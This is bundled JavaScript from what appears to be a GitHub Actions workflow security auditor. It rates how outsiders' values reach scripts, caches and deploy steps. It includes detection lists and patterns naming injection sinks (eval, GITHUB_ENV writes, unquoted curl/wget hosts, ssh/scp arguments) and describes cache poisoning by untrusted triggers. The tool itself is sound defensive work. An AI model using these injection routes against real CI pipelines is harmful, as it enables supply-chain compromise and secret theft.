        return /lookup-only|disabled|ignore|no-cache/.test(input) ? text === 'true' : (0,parts/* isFalse */.Wu)(text) || text === '';
    });
}
function isSet(text) {
    return text !== undefined && text !== '' && text !== 'false';
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/graph/caches.js
// GitHub's caches as a way from one job to others: whose run may write those of the default branch, and who restores them.
// Source: GitHub's changelog, 2026-06-26 ("Read-only Actions cache for untrusted triggers": runs that people without rights set off on the
// default branch restore caches and save none) and 2026-09-10 ("cache-mode": what a workflow or job says itself goes before that, and no called
// workflow has more than its caller).




/** What a job, or its workflow, says that it may do with caches. */

/** Whether what a job says of itself lets it restore caches. */
function mayRestore(job) {
    const mode = modeOf(job);
    return mode !== 'none' && mode !== 'write-only';
}
/**
 * Whether a run that an outsider set off by the event may write caches of the default branch that a later job restores which has something
 * to lose. Without a word about it such a run only restores.
 */
function poisonsCaches(run, event) {
    return (0,events/* isForeign */.jq)(event) && maySave(run) && hasPrey(run.within.among);
}
/** Whether it is said that the job saves caches, and its callers do not say that it may not. */
function maySave({ job, within }) {
    const mode = modeOf(job);
    const saves = mode === 'write' || mode === 'write-only';
    if (within.caller === undefined)
        return saves;
    return (mode === undefined || saves) && maySave(within.caller);
}
const caches_known = new WeakMap();
function hasPrey(all) {
    const before = caches_known.get(all);
    if (before !== undefined)
        return before;
    const made = all.some((run) => mayRestore(run.job) &&
        (0,graph_rights/* isValuable */.TS)((0,graph_rights.rightsOf)(run)) &&
        (0,graph_reach.eventsOf)(run).some(events.isPrivileged) &&
        run.steps.some(({ step }) => cachingOf(step) !== undefined));
    caches_known.set(all, made);
    return made;
}

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/graph/conditions.js
var graph_conditions = __webpack_require__(2317);
// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/graph/lookups.js
var lookups = __webpack_require__(5308);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/judge.js
// How bad it is that an outsider's value comes to a place: by who may start it, how, and what the job has that they would want.








/** The worst of the events by which somebody who writes the source gets to the step; undefined where nobody does. */

function eventsFor(source, run) {
    const own = run.job === undefined ? ['workflow_call'] : (0,graph_reach.eventsOf)(run.job);
    return source.events === undefined ? own : source.events.filter((event) => own.includes(event));
}
function underEvent({ name, writer, weak, stored }, run, event, rights, aim) {
    if (excludesEvent(run, event) || isFixed(name, run, aim))
        return undefined;
    const waits = run.job !== undefined && (0,graph_reach.waitsForEnvironment)(run.job, event);
    if (writer === 'caller')
        return { severity: 'low', event, reach: 'never', waits, rights };
    if (event === 'workflow_call')
        return { severity: writer === 'outsider' ? 'medium' : 'low', event, reach: 'never', waits, rights };
    const valuable = rights !== undefined && (0,graph_rights/* isValuable */.TS)(rights);
    if (writer === 'collaborator')
        return { severity: 'low', event, reach: 'never', waits, rights };
    if (writer === 'merged')
        return { severity: valuable ? 'medium' : 'low', event, reach: 'invited', waits, rights };
    if (stored === true)
        return { severity: valuable ? 'high' : 'medium', event, reach: event === 'schedule' ? 'alone' : 'invited', waits, rights };
    const reach = aim === 'text' && (0,lookups/* isUnder */.Jo)(event) && standsAbove.test(name) ? reachFromAbove(run, event) : (0,graph_reach/* reachOfStep */.L)(run, event, aim);
    if (reach === 'never')
        return undefined;
    const weighed = reached(run, event, reach, waits, rights);
    return { ...weighed, severity: weak === true && weighed.severity !== 'low' ? 'medium' : weighed.severity, event, reach, waits, rights };
}

const branchBefore = 'github.event.workflow_run.head_branch';
/** Whether the trigger lets branches of fixed names through alone: a fork may have one of that name, and its name is no code. */
function isFixed(source, { job }, aim) {
    if (aim !== 'text' || source !== branchBefore)
        return false;
    const names = job?.within.entry.triggers
        .find((trigger) => trigger.name === 'workflow_run')
        ?.config?.entries.find((entry) => entry.name === 'branches')?.value;
    const all = names?.kind === 'list' ? names.items : names === undefined ? [] : [names];
    return all.length > 0 && all.every((one) => one.kind === 'scalar' && /^[\w./-]+$/.test(one.text));
}
/** Of an environment's name: whoever chooses one by who somebody is has rules for the others. */
const choosesByPerson = /\$\{\{[^}]{0,500}\b(?:author_association|head\.repo\.|head_repository\.|(?:triggering_)?actor\b|user\.login)/;
/** Texts of the author of an issue, a pull request or a discussion. */
const standsAbove = /^github\.(?:head_ref$|event\.(?:issue|pull_request|discussion)\.)/;
/** How far the author of what stands above gets, by a comment of their own or by that of somebody with rights. */
function reachFromAbove(run, event) {
    const reach = (0,graph_reach/* reachOfStep */.L)(run, event, 'above');
    return (0,graph_reach/* reachOfStep */.L)(run, event) === 'alone' ? reach : (0,events/* lesser */.Zh)(reach, 'invited');
}
/** Whether a condition of the step or its job asks for another event. */
function excludesEvent(run, event) {
    const conditions = [run.step.if, run.parent?.step.if, run.job?.job.if, run.job?.within.caller?.job.if];
    return conditions.some((condition) => condition !== undefined && (0,graph_conditions/* asksForOther */.Mr)(condition.text, event));
}
function outsiders(event, reach, valuable, selfHosted) {
    if (!(0,events.isPrivileged)(event))
        return selfHosted ? 'high' : 'medium';
    if (reach === 'invited')
        return valuable ? 'high' : 'medium';
    // With nothing in hand; that it writes no cache that others restore is asked before.
    return valuable ? 'critical' : 'medium';
}
const acts = {
    pull_request: 'opens a pull request',
    pull_request_target: 'opens a pull request',
    pull_request_review: 'reviews a pull request',
    pull_request_review_comment: 'comments on a pull request',
    issues: 'opens an issue',
    issue_comment: 'comments on an issue or pull request',
    discussion: 'starts a discussion',
    discussion_comment: 'comments on a discussion',
    workflow_run: 'sets off the run before it',
    fork: 'forks the repository',
    watch: 'stars the repository',
    ...Object.fromEntries([...lookupEvents].map((event) => [event, 'writes an issue or pull request that this run looks up'])),
};
/** Who gets there, and what with: "Anybody who opens an issue \u2026 with this job's write token and secrets". */
function whoAndWith({ event, reach, waits, rights, severity, caches }, writer) {
    if (writer === 'collaborator')
        return { who: 'Whoever may push or start workflows', with: '' };
    if (writer === 'merged')
        return { who: 'Whoever has a change merged', with: '' };
    if (writer === 'caller')
        return { who: 'Whoever writes what a caller hands over', with: '' };
    const act = acts[event] ?? (event === 'workflow_call' ? 'writes it, where a caller lets them,' : `sets \`${event}\` off`);
    const who = reach === 'invited'
        ? `Whoever ${act}, ${waits ? 'as the rules of an environment or a maintainer let them' : 'once a maintainer acts on it'},`
        : `Anybody who ${act}`;
    if (!(0,events.isPrivileged)(event))
        return { who, with: rights?.selfHosted === true ? ' on a runner of your own' : ' (from a fork with a token that only reads)' };
    if (caches === true)
        return { who, with: ', and `cache-mode` lets it write caches that later jobs with more rights restore' };
    return { who, with: severity === 'medium' || rights === undefined ? '' : (0,graph_rights/* possessionsOf */.rx)(rights) };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/may-bring.js
// Whether a script can hold anything of somebody else's at all, by what stands around it: most cannot, and need not be gone through
// command by command. Where words alone cannot tell, it can.





/** How often the jobs of a workflow are gone through that take files of one another; behind that, each may hold anything. */
const maxRounds = 4;
/** Variables of one `env:` that are looked for in scripts by their names; of more, each script may use one. */
const maxNames = 40;
/** Asks of a step whether anything of somebody else's may come to its script. */
function bringing(evaluate, foreign) {
    const ofWorkflow = (0,remembered/* rememberedOf */.M)((run) => run.workflow.env.filter((pair) => (pair.scalar?.text.includes('${{') === true && ofJobs.test(pair.scalar.text)) ||
        isOthers(pair, { file: run.file, workflow: run, job: undefined, step: undefined })));
    const variablesOf = (0,remembered/* rememberedOf */.M)((run) => run.step.env.some((pair) => isOthers(pair, scopeOfStep(run))));
    const inputsOf = (0,remembered/* rememberedOf */.M)((run) => run.step.with.some((pair) => isOthers(pair, scopeOfStep(run))));
    const jobsOf = (0,remembered/* rememberedOf */.M)(inWorkflow);
    return mayBring;
    function mayBring(run) {
        return run.job === undefined || jobsOf(run.job.within)?.get(run.job)?.steps[run.order] !== false;
    }
    /** Undefined where the jobs hand files on in too long a chain. */
    function inWorkflow(within) {
        const found = new Map();
        const handing = new Set();
        for (let round = 0; round < maxRounds; round++) {
            const before = handing.size;
            for (const job of within.jobs.values()) {
                // Only what it takes from another can make it another one than before.
                if (round > 0 && !job.steps.some((run) => (0,taint_uploads/* uploadsTaken */.s1)(run).length > 0))
                    continue;
                const made = ofJob(job, handing);
                found.set(job, made);
                if (made.handsOn)
                    handing.add(job);
            }
            if (handing.size === before)
                return found;
        }
        return undefined;
    }
    /** What comes to one step may come to those behind it by the environment and by files. */
    function ofJob(job, handing) {
        const around = [...ofWorkflow(job.within), ...job.job.env.filter((pair) => isOthers(pair, scopeOfJob(job)))];
        const names = new Set(around.map(({ name }) => name.toLowerCase()));
        const steps = [];
        let handedOn = names.size > maxNames;
        for (const run of job.steps) {
            const may = handedOn || takesFiles(run, handing) || comesTo(run, names);
            steps.push(may);
            handedOn ||= may && mayHandOn(run.step);
        }
        return { steps, handsOn: handedOn };
    }
    /** By the step itself: its script, its variables, files that lie there. @param names of the variables around it that hold something. */
    function comesTo(run, names) {
        const { run: script } = run.step;
        if (script === undefined)
            return isScriptOfAction(run.step);
        const { text } = script;
        return ((0,src_shell/* shellOf */.of)(run.step) !== 'bash' ||
            asks(text) ||
            (text.includes('${{') && evaluate.ofScalar(script, scopeOfStep(run)).length > 0) ||
            (names.size > 0 && namesOneOf(text, names)) ||
            ofSurroundings(run, text) ||
            (readingFiles.test(text) && (foreign.before(run).length > 0 || foreign.of(run).length > 0)));
    }
    /** Variables and inputs of the step, and of those whose action it is part of. */
    function ofSurroundings(run, text) {
        const asksInputs = /input_/i.test(text);
        for (let at = run; at !== undefined; at = at.parent)
            if (variablesOf(at) || (asksInputs && inputsOf(at)))
                return true;
        return false;
    }
    function isOthers({ scalar }, scope) {
        return scalar !== undefined && evaluate.ofScalar(scalar, scope).length > 0;
    }
}
/** Another job's, out of an artifact or a cache. */
function takesFiles(run, handing) {
    return (0,taint_uploads/* uploadsTaken */.s1)(run).some(({ job }) => job !== run.job && (job === undefined || handing.has(job)));
}
/** Names of variables have no case; envsubst takes all. */
function namesOneOf(text, names) {
    const small = text.toLowerCase();
    if (small.includes('envsubst'))
        return true;
    for (const name of names)
        if (small.includes(name))
            return true;
    return false;
}
/** Contexts that are not known to a workflow's own variables, and are asked of a job all the same. */
const ofJobs = /\b(?:matrix|steps)\b/i;
/** Whether a script of bash looks something up by itself: on GitHub, in git, in what the runner says of the event. */
function asks(text) {
    return (/\/(?:issues|pulls|comments)\b|\bgraphql\b|event_path|github_(?:head_)?ref\b|github_ref_name\b/i.test(text) ||
        (/\bgh\b/.test(text) && /\b(?:pr|issue)\b/.test(text)) ||
        (/\bgit\b/.test(text) && ofHistory.test(text)) ||
        holdsOther(text));
}
/** What of the history, of names and branches git is asked for. */
const ofHistory = /\b(?:diff|diff-tree|ls-tree|branch|symbolic-ref|name-rev|abbrev-ref|log|show|shortlog)\b|--name-(?:only|status)\b/;
/** How the files that lie there come into a script. */
const readingFiles = /[<`]|\$\(|\b(?:cat|head|tail|jq|yq|grep|egrep|sed|awk|cut|sort|uniq|tac|nl|rev|column|paste|envsubst|find|ls|git)\b/;

// EXTERNAL MODULE: ./build/bundled/packages/lint/src/kind.js
var kind = __webpack_require__(6402);
// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/script.js
var taint_script = __webpack_require__(424);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/script-sinks.js
// Where a script of bash hands a value to something that takes it for more than text.


const script_sinks_known = new WeakMap();
function scriptSinks(facts) {
    const before = script_sinks_known.get(facts);
    if (before !== undefined)
        return before;
    const found = [...facts.writes.flatMap(ofWrite), ...facts.commands.flatMap(ofCommand), ...facts.uses.flatMap(ofUse)];
    script_sinks_known.set(facts, found);
    return found;
}
function ofWrite({ file, name, value, at, between, delimited, oneLine }) {
    const what = name ?? '';
    if (file === 'path')
        return [{ kind: 'path', parts: value, at, what, message: 'it becomes a folder in which programs are looked for' }];
    if ((file !== 'env' && file !== 'output') || delimited || (oneLine === true && name !== undefined))
        return [];
    return [
        {
            kind: file,
            parts: value,
            at,
            what,
            message: file === 'env'
                ? 'it is written to GITHUB_ENV, where a line of its own sets any variable'
                : 'it is written to GITHUB_OUTPUT, where a line of its own sets any output',
            ...(file === 'output' ? { less: true } : {}),
            // Without a name before it the value can be a whole line.
            ...(name === undefined ? (between === undefined ? {} : { only: 'marks' }) : { only: 'lines' }),
        },
    ];
}
function ofUse({ kind, parts, at, what, less }) {
    const message = kind === 'eval' ? `\`${what}\` takes it for code` : `it becomes arguments of \`${what}\`, options among them`;
    return [{ kind, ...unexpressed(parts), at, what, message, ...(less === undefined ? {} : { less }) }];
}
function ofCommand(command) {
    const { name, code, words, at } = command;
    const taken = code.words.flatMap((index) => (words[index] === undefined ? [] : [command.partsOf(words[index])]));
    const all = [
        ...taken,
        ...ofFirstWord(command),
        ...ofFile(command),
        ...(code.fed ? [command.fed] : []),
        ...(code.names ? [(0,taint_parts/* ofReads */.P1)('listing')] : []),
    ];
    const by = code.by === '' ? name || (words[0]?.text.slice(0, 60) ?? '') : code.by;
    const sinks = all.map((parts) => ({
        kind: 'eval',
        ...unexpressed(parts),
        at,
        what: by,
        message: `\`${by}\` takes it for code`,
        ...(code.less === undefined ? {} : { less: code.less }),
    }));
    if (sinks.length > 0)
        return sinks;
    if (name === 'curl' || name === 'wget')
        return requests(command);
    return splitters.has(name) ? bareArguments(command) : [];
}
/** A program whose name somebody else gives. */
function ofFirstWord({ words, partsOf }) {
    const [first] = words;
    return first !== undefined && /^["']?\$/.test(first.text) ? [partsOf(first)] : [];
}
/** A file that is run or read as a script, where a step before wrote it: `bash ./file`, `. vars`, `./file`, `source <(\u2026)`. */
function ofFile({ name, words, partsOf, node }) {
    const at = (0,src_script/* startOf */.GH)(words.map(({ value }) => value));
    const [program, first] = [words[at], words.slice(at + 1).find(({ value }) => !value.startsWith('-'))];
    const reads = script_sinks_interpreters.test(program === undefined ? name : (0,src_script/* baseName */.Fl)(program.literal ?? ''));
    const file = reads ? first : program?.literal?.includes('/') === true ? program : undefined;
    if (file === undefined)
        return [];
    if (/^<\(/.test(file.text))
        return [partsOf(file)];
    if (reads && node.words.some(({ value }) => /^-[a-z]*c$|^-e$|^-m$/.test(value)))
        return [];
    return [(0,taint_parts/* ofVariable */.Qn)((0,taint_parts/* fileName */.Md)((0,taint_parts/* filePath */.s$)(file.value)))];
}
/** Programs whose first word is a file that they run. */
const script_sinks_interpreters = /^(?:(?:ba|da|z|k)?sh|source|\.|python[\d.]*|node|perl|ruby|php|pwsh|powershell)$/;
/** An expression in a script is code already, whatever the script does with it. */
function unexpressed(parts) {
    return parts.expressions.size === 0 ? { parts } : { parts: { ...parts, expressions: new Set() }, behind: parts.expressions };
}
/** What stands there itself gets quotes with its variable. */
function unquoted(word, command) {
    const { parts, behind } = unexpressed(command.partsOf(word));
    return behind === undefined || !word.text.includes('$') ? { parts } : { parts, behind };
}
/** Programs that can be told by an option to run something, or to write anywhere. */
const splitters = new Set([
    'git',
    'yarn',
    'pnpm',
    'npx',
    'tar',
    'rsync',
    'find',
    'ssh',
    'scp',
    'zip',
    'docker',
    'npm',
    'pip',
    'gh',
    'sed',
    'awk',
    'xargs',
    'make',
    'go',
    'mvn',
    'gradle',
    'terraform',
    'kubectl',
    'helm',
    'aws',
    'env',
    'sudo',
]);
function bareArguments(command) {
    const { name, words } = command;
    const split = words.slice(1).filter((word) => command.isBare(word) && !/^-|=/.test(word.text));
    return split.map((word) => ({
        kind: 'arguments',
        ...unquoted(word, command),
        at: { start: word.start, end: word.end },
        what: name,
        message: `without quotes it becomes several arguments of \`${name}\`, options among them`,
        less: true,
    }));
}
const plainOptions = /^--(?:silent|show-error|location|fail|fail-with-body|compressed|insecure|remote-name|remote-header-name|quiet|no-verbose|globoff|url)$/;
/** Whether the word behind an option of curl or wget is the option's. */
function takesValue(option) {
    if (option.startsWith('--'))
        return !option.includes('=') && !plainOptions.test(option);
    return /^-[a-zA-Z]*[dHXouFTeAbcmwKECPrYytQxzNU]$/.test(option);
}
function requests(command) {
    const found = [];
    for (const [index, word] of command.words.entries()) {
        if (index === 0 || takesValue(command.words[index - 1]?.value ?? ''))
            continue;
        if (command.isBare(word) && !/^-|[=:/]/.test(word.text)) {
            found.push({
                kind: 'arguments',
                ...unquoted(word, command),
                at: { start: word.start, end: word.end },
                what: command.name,
                message: `without quotes it becomes several arguments of \`${command.name}\`, options among them`,
                less: true,
            });
        }
        if (/^["']?(?:https?:\/\/)?["']?\$/.test(word.text))
            found.push({
                kind: 'request',
                ...unexpressed(command.partsOf(word)),
                at: { start: word.start, end: word.end },
                what: command.name,
                message: 'it says which host is asked',
                less: true,
            });
    }
    return found;
}

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/snippet.js
var taint_snippet = __webpack_require__(6062);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/own-scripts.js
// Scripts and JavaScript actions of the repository itself that a step runs, and what they do with the values that the step hands them.







/** Longer ones are bundles, or no scripts. */
const maxLetters = 200_000;
/** Scripts of one step that are gone through. */
const maxScripts = 20;
/** Whether a step may run a script or an action of the repository's, with what the job or the workflow around it hands to all. */
function mayRunOwn({ step, job }) {
    if (step.uses?.target.kind === 'local')
        return step.with.length > 0 || step.env.length > 0;
    const around = [...(job?.job.env ?? []), ...(job?.within.workflow.env ?? [])];
    return around.some(({ scalar }) => scalar?.text.includes('${{') === true) && runsFile.test(step.run?.text ?? '');
}
const runsFile = /\.(?:ba|z|k)?sh\b|\.py\b|\.[cm]?js\b|\.ps1\b|(?:^|[\s;&|])\.\//;
/** Where scripts of the repository that a step runs take for code what the step hands them. */
function ownSinks(run, folder, repository) {
    if (run.step.uses?.target.kind === 'local')
        return own_scripts_ofAction(run, repository);
    if (folder === undefined)
        return [];
    const found = [];
    let read = 0;
    for (const command of (0,step_script/* stepScript */.M)(run.step)?.facts.commands ?? []) {
        const named = scriptOf(command);
        if (named === undefined || read >= maxScripts)
            continue;
        const path = inFolder(folder, named.path);
        const sinks = path === undefined ? undefined : sinksIn(path, repository);
        if (sinks === undefined)
            continue;
        read++;
        const given = command.words.slice(named.index + 1).map((word) => command.partsOf(word));
        for (const sink of sinks)
            found.push({ ...sink, parts: handed(sink, given), command });
    }
    return found;
}
/** The main file of an action of the repository's own; its inputs are variables of the runner's. */
function own_scripts_ofAction({ step }, repository) {
    const target = step.uses?.target;
    if (target?.kind !== 'local')
        return [];
    const document = repository.action(target)?.document;
    const main = document?.kind === 'action' && document.runs.kind === 'node' ? document.runs.main?.text : undefined;
    if (main === undefined || !/\.[cm]?js$/.test(main))
        return [];
    const path = inFolder(target.path, main);
    return (path === undefined ? undefined : sinksIn(path, repository))?.map((sink) => ({ ...sink, command: undefined })) ?? [];
}
const own_scripts_interpreters = {
    bash: /\.(?:ba|z|k)?sh$|\/[\w-]+$|^[\w-]+$/,
    sh: /\.(?:ba|z|k)?sh$|\/[\w-]+$|^[\w-]+$/,
    source: /\.(?:ba)?sh$/,
    '.': /\.(?:ba)?sh$/,
    python: /\.py$/,
    python3: /\.py$/,
    node: /\.[cm]?js$/,
    pwsh: /\.ps1$/,
};
/** The script of the repository that a command runs, and which of its words names it. */
function scriptOf({ name, words }) {
    const own = own_scripts_interpreters[name];
    if (own === undefined) {
        const path = words[0]?.literal;
        return path !== undefined && /^\.\/|^[\w.-]{1,100}\/[\w./-]{1,300}$/.test(path) ? { path, index: 0 } : undefined;
    }
    const values = words.slice(1).map(({ value }) => value);
    if (values.some((value) => /^-\w*[cem]$/.test(value)))
        return undefined;
    const [path] = (0,program_words/* programWords */.O)(name, values);
    return path !== undefined && own.test(path) ? { path, index: 1 + values.indexOf(path) } : undefined;
}
/** A path from the root; undefined where it leads out of the repository, or nobody knows where. */
function inFolder(folder, path) {
    if (/[$`]|^[/~]|\.\.\//.test(path) || path.includes('XXXX'))
        return undefined;
    const plain = (0,taint_parts/* filePath */.s$)(path);
    return folder === '' ? plain : `${(0,taint_parts/* filePath */.s$)(folder)}/${plain}`;
}
function sinksIn(path, repository) {
    const text = repository.text(path);
    if (text === undefined || text.length > maxLetters)
        return undefined;
    const { facts, named } = factsOf(path, text);
    if (facts === undefined)
        return undefined;
    const file = (0,kind/* sourceFile */.s)(path, text);
    return scriptSinks(facts)
        .filter(({ kind }) => kind === 'eval')
        .map((sink) => ({ ...sink, file, named }));
}
function factsOf(path, text) {
    const first = /^#![^\n]{0,200}/.exec(text)?.[0] ?? '';
    if (/\.(?:ba|z|k)?sh$/.test(path) || /\b(?:ba|da|z|k)?sh\b/.test(first)) {
        const { script, named } = withNames(text);
        return { facts: (0,taint_script/* scriptFacts */.X)(script), named };
    }
    const language = /\.py$/.test(path) || /\bpython/.test(first)
        ? 'python'
        : /\.[cm]?js$/.test(path) || /\bnode\b/.test(first)
            ? 'javascript'
            : /\.ps1$/.test(path)
                ? 'powershell'
                : undefined;
    return { facts: language === undefined ? undefined : { ...(0,taint_snippet/* snippetFacts */.D)(text, language), commands: [] }, named: new Map() };
}
/** A script in which its arguments are variables, every letter in its place; within a function they are the function's own. */
function withNames(text) {
    const named = new Map();
    if (/(?:^|[\n;])\s{0,20}(?:function\s{1,5}[\w:-]{1,80}|[\w:-]{1,80}\s{0,3}\(\s{0,3}\))/.test(text))
        return { script: text, named };
    const free = [...'ZQJXKVWYUH'].filter((letter) => !new RegExp(`\\b${letter}\\b`).test(text));
    const letters = new Map();
    const script = text.replace(/(\$\{?)([1-9@*])(?![0-9])/g, (whole, sign, number) => {
        const letter = letters.get(number) ?? free.pop();
        if (letter === undefined)
            return whole;
        letters.set(number, letter);
        named.set(letter, /\d/.test(number) ? Number(number) : 'all');
        return sign + letter;
    });
    return { script, named };
}
/** What a script is handed: variables by their names, arguments by their numbers. Braces of templates are none in a file. */
function handed({ parts, named }, given) {
    const names = [...parts.variables].filter((name) => named.has(name));
    const own = { ...parts, expressions: taint_parts/* noParts */.K_.expressions };
    if (names.length === 0)
        return own;
    const variables = new Set([...parts.variables].filter((name) => !named.has(name)));
    return (0,taint_parts/* joined */.oR)([{ ...own, variables }, ...names.flatMap((name) => argumentsOf(named.get(name), given))]);
}
function argumentsOf(argument, given) {
    if (argument === 'all')
        return given;
    return argument === undefined ? [] : given.slice(argument - 1, argument);
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/operations/deployments.js
// What deploys: actions and commands that change something that people use. Each as it is commonly used, November 2026; not held row by row against its documentation.



const deployments_actions = new Set([
    'amondnet/vercel-action',
    'appleboy/ssh-action',
    'aws-actions/amazon-ecs-deploy-task-definition',
    'aws-actions/aws-cloudformation-github-deploy',
    'azure/arm-deploy',
    'azure/container-apps-deploy-action',
    'azure/functions-action',
    'azure/k8s-deploy',
    'azure/static-web-apps-deploy',
    'azure/webapps-deploy',
    'firebaseextended/action-hosting-deploy',
    'google-github-actions/deploy-appengine',
    'google-github-actions/deploy-cloud-functions',
    'google-github-actions/deploy-cloudrun',
    'superfly/flyctl-actions',
]);
/** Words behind the program's name that make it deploy. */
const commands = [
    ['kubectl', 'apply'],
    ['kubectl', 'rollout'],
    ['kubectl', 'set'],
    ['helm', 'upgrade'],
    ['helm', 'install'],
    ['helmfile', 'apply'],
    ['terraform', 'apply'],
    ['tofu', 'apply'],
    ['terragrunt', 'apply'],
    ['pulumi', 'up'],
    ['cdk', 'deploy'],
    ['sam', 'deploy'],
    ['serverless', 'deploy'],
    ['sls', 'deploy'],
    ['ansible-playbook'],
    ['wrangler', 'deploy'],
    ['wrangler', 'publish'],
    ['firebase', 'deploy'],
    ['fly', 'deploy'],
    ['flyctl', 'deploy'],
    ['netlify', 'deploy'],
    ['cf', 'push'],
    ['argocd', 'app', 'sync'],
    ['gcloud', 'run', 'deploy'],
    ['gcloud', 'app', 'deploy'],
    ['gcloud', 'functions', 'deploy'],
    ['aws', 'ecs', 'update-service'],
    ['aws', 'lambda', 'update-function-code'],
    ['aws', 'cloudformation', 'deploy'],
    ['aws', 'deploy', 'create-deployment'],
    ['aws', 'elasticbeanstalk', 'update-environment'],
    ['az', 'webapp', 'deploy'],
    ['az', 'containerapp', 'update'],
    ['az', 'deployment'],
];
/** The words that make a program deploy, by its name: most programs deploy nothing. */
const byProgram = new Map();
for (const [program, ...words] of commands)
    byProgram.set(program, [...(byProgram.get(program) ?? []), words]);
function isDeployCommand({ name, args }) {
    const ways = byProgram.get(name);
    if (ways === undefined || (0,src_script/* hasOption */.Kz)(args, '--dry-run', '--dryrun', '--check', '--help', '--preview'))
        return false;
    const words = (0,program_words/* programWords */.O)(name, args);
    return ways.some((wanted) => wanted.every((word, at) => words[at] === word));
}
/** What a step deploys with: an action or a command with its words; undefined where it deploys nothing. */
function deployment(step, context) {
    const name = (0,parts/* actionName */.aM)(step);
    if (name !== undefined)
        return deployments_actions.has(name) ? { by: name, invocation: undefined } : undefined;
    const script = (0,src_script/* scriptOf */.YI)(step, context);
    if (script === undefined)
        return undefined;
    for (const invocation of (0,src_script/* invocationsIn */.J3)(script))
        if (isDeployCommand(invocation))
            return { by: `${invocation.name} ${(0,program_words/* programWords */.O)(invocation.name, invocation.args).slice(0, 2).join(' ').slice(0, 60)}`, invocation };
    return undefined;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/publishes.js
// What a step makes public out of the files of its job: a site, a release, a package, an image. Each action and command as it is commonly
// used, November 2026; not held row by row against its documentation.




const publishes_actions = {
    'actions/deploy-pages': { live: ['preview', /^(?:false)?$/] },
    'actions/upload-pages-artifact': { files: ['path', '_site'] },
    'peaceiris/actions-gh-pages': { files: ['publish_dir', 'public'], places: ['destination_dir', 'publish_branch', 'external_repository'] },
    'jamesives/github-pages-deploy-action': { files: ['folder', '.'], places: ['target-folder', 'branch', 'repository-name'] },
    'crazy-max/ghaction-github-pages': { files: ['build_dir', '.'], places: ['target_branch', 'repo'] },
    'softprops/action-gh-release': { files: ['files', ''] },
    'ncipollo/release-action': { files: ['artifacts', ''] },
    'svenstaro/upload-release-action': { files: ['file', ''] },
    'actions/upload-release-asset': { files: ['asset_path', ''] },
    'pypa/gh-action-pypi-publish': { files: ['packages-dir', 'dist'] },
    'js-devtools/npm-publish': { files: ['package', '.'] },
    'cloudflare/wrangler-action': { files: ['command', '.'], live: false },
    'cloudflare/pages-action': { files: ['directory', '.'], live: false },
    'nwtgck/actions-netlify': { files: ['publish-dir', '.'], live: ['production-deploy', /^true$/] },
    'firebaseextended/action-hosting-deploy': { live: ['channelid', /^live$/] },
    'azure/static-web-apps-deploy': { files: ['app_location', '.'], live: false },
    'jakejarvis/s3-sync-action': { live: false },
    'redhat-actions/push-to-registry': { live: false },
};
/** What an action publishes; undefined for one that publishes nothing. */
function publishedByAction(step) {
    const target = step.uses?.target;
    const publisher = target?.kind === 'repository' ? publishes_actions[target.slug] : undefined;
    if (publisher === undefined)
        return undefined;
    const { files, places = [], live } = publisher;
    const named = places.some((input) => (0,parts/* inputText */.AN)(step, input)?.includes('${{') === true);
    const isLive = live === undefined || (live !== false && live[1].test((0,parts/* inputText */.AN)(step, live[0])?.trim() ?? ''));
    return { ...(files === undefined ? {} : { files: (0,parts/* inputText */.AN)(step, files[0]) ?? files[1] }), live: isLive && !named };
}
/** Programs that copy files to where others look, by the words behind the name. */
const copies = {
    aws: [
        ['s3', 'sync'],
        ['s3', 'cp'],
        ['s3', 'mv'],
    ],
    gsutil: [['cp'], ['rsync'], ['mv']],
    gcloud: [
        ['storage', 'cp'],
        ['storage', 'rsync'],
    ],
    az: [['storage', 'blob']],
    wrangler: [['pages', 'deploy'], ['pages', 'publish'], ['deploy']],
    vercel: [[]],
    surge: [[]],
    rclone: [['sync'], ['copy']],
};
/** Programs that push an image which was loaded out of a file. */
const pushers = new Set(['docker', 'podman', 'crane', 'oras', 'buildah']);
/** What a command publishes. @param script up to its end, in which folders are entered and files moved. */
function publishedByCommand({ name, words }, script) {
    const args = words.slice(1).map(({ value }) => value);
    const asked = (0,program_words/* programWords */.O)(name, args);
    if (args.some((arg) => /^--(?:dry-?run|help)$/.test(arg)))
        return undefined;
    if (name === 'gh')
        return asked[0] === 'release' && /^(?:create|upload)$/.test(asked[1] ?? '') ? { files: script, live: true } : undefined;
    if (publishes(name, args) !== undefined)
        return { files: script, live: true };
    if (pushers.has(name))
        return asked[0] === 'push' ? { live: false } : undefined;
    if (name === 'skopeo')
        return asked[0] === 'copy' ? { files: script, live: false } : undefined;
    // To another machine.
    if (name === 'rsync' || name === 'scp')
        return args.some((arg) => /^[^/-][^/]*:/.test(arg)) ? { files: script, live: false } : undefined;
    const copied = copies[name]?.some((wanted) => wanted.every((word, at) => asked[at] === word)) === true;
    return copied || isDeployCommand({ name, args }) ? { files: script, live: false } : undefined;
}
/** Whether what is published can be what lies at a path of the workspace: all of it, a part, or more. */
function takesFrom({ files }, path, folder) {
    const last = path.split('/').at(-1) ?? '';
    if (path === '' || files === undefined || !/^[\w.-]+$/.test(last))
        return true;
    return /^\s*\.?\/?\s*$/.test(files) || files.includes(last) || folder?.includes(last) === true;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/runtime.js
// What a job or step runs in, where an expression says so: the image of its container, the options that start it, the shell that reads its
// scripts. Facts: docs.github.com, "Workflow syntax" and "Metadata syntax"; actions/runner, how it starts containers and scripts.


const runtime_commands = 'runs commands in this job';
const roles = {
    image: { becomes: 'names the image in which the steps of this job run', harm: runtime_commands },
    options: { becomes: 'is part of the options that start the container of this job', harm: runtime_commands },
    serviceImage: { becomes: 'names the image of a service beside this job', harm: 'runs a container of their own beside it' },
    serviceOptions: { becomes: 'is part of the options that start a service', harm: 'gives that container rights of their own choice' },
